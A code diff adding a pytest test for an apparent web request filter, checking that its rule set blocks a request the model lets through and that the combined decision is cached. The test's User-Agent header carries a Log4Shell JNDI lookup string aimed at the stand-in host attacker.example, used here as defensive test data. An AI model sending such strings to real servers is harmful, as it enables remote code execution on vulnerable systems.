@@ -100,3 +100,13 @@ async def test_counts_by_source(clock, n):
     for _ in range(n):
         await d.decide(PAGE)
     assert d.counts["model"] == 1 and d.counts["cache"] == n - 1
+
+
+@pytest.mark.parametrize("ensemble, source, label", [(True, Source.RULES, "block"), (False, Source.MODEL, "allow")])
+async def test_ensemble_rules_block_what_the_model_let_through(clock, ensemble, source, label):
+    jndi = Features.build("GET", "/", headers={"User-Agent": "${jndi:ldap://attacker.example/a}"})
+    d = make_decider(clock, FakeModel(scores={"allow": 1.0}), ensemble=ensemble)
+    v = await d.decide(jndi)
+    assert (v.source, v.label) == (source, label)
+    assert (await d.decide(jndi)).source is Source.CACHE  # the combined decision is cached
+    assert d.cache_id.endswith(d.rules.model) is ensemble  # a ruleset change cannot serve stale decisions
